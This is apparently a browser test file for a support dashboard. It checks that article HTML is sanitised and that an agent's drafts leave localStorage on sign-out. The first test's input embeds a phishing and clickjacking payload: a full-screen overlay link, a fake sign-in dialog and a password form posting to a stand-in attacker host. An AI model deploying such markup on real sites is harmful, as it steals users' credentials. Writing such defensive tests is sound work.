/** Text by others is displayed safely in the dashboard, and an agent's drafts are deleted when they sign out. */

import { signIn } from "@frontdesk/testing/agent-browser";
import { openShop } from "@frontdesk/testing/visitor-browser";
import { afterAll, expect, test } from "vitest";

const shop = await openShop("sqlite", {}, afterAll);

test("an article cannot look like the dashboard, nor cover it", async () => {
  const answer = `# Returns

<a class="fixed inset-0 z-50" id="cover" style="position:fixed;inset:0" href="https://evil.test/">Sign in again</a>
<div role="dialog" aria-label="Sign in" data-state="open" class="fixed inset-0">Your password</div>
<form action="https://evil.test/"><input name="password"><button>Go</button></form>

**Within 30 days**, with [this form](https://acme.test/form "The form"):

| what | how long |
|:---|---:|
| shoes | 30 days |

3. third`;
  const { data } = await shop.api.createArticle({ body: { question: "Returns?", answer } });
  const { page } = await signIn(shop, `/knowledge/${data.id}`);
  const preview = page.getByRole("region", { name: "Preview" }).locator(".prose");
  await preview.getByText("Within 30 days").waitFor();

  const names = await preview.evaluate((made) =>
    [...made.querySelectorAll("*")].flatMap((element) => element.getAttributeNames()),
  );
  expect([...new Set(names)].sort()).toEqual(["align", "href", "start", "title"]);
  expect(await preview.locator("form, input, button, div, [role]").count()).toBe(0);
  expect(await preview.locator("h1, strong, table, ol, a").count()).toBe(6);
  const contained = await preview.evaluate((made) => made.ownerDocument.defaultView?.getComputedStyle(made).contain);
  expect(contained).toContain("paint");
  // The premise and the point: the button can be clicked where it is visible.
  await page.getByRole("button", { name: "Save" }).click({ trial: true, timeout: 5_000 });
  await page.context().close();
});

test("after signing out nothing that the agent has written is left in the browser", async () => {
  const { data } = await shop.api.sendVisitorMessage({
    body: { widget_id: shop.widgetId, name: "Vera", content: "Hello" },
  });
  const { page } = await signIn(shop, `/inbox/${data.attributes.conversation_id}`);
  const field = page.locator("section textarea");
  await field.fill("She owes us 300");
  const stored = () => page.evaluate(() => JSON.stringify({ ...localStorage }));
  await expect.poll(stored).toContain("She owes us 300");
  await page.locator("button[title*='Ada']").first().click();
  await page.getByRole("menuitem", { name: "Sign out" }).click();
  await page.waitForURL(/\/app\/sign-in/);
  expect(await stored()).not.toContain("She owes us 300");
  await page.context().close();
});
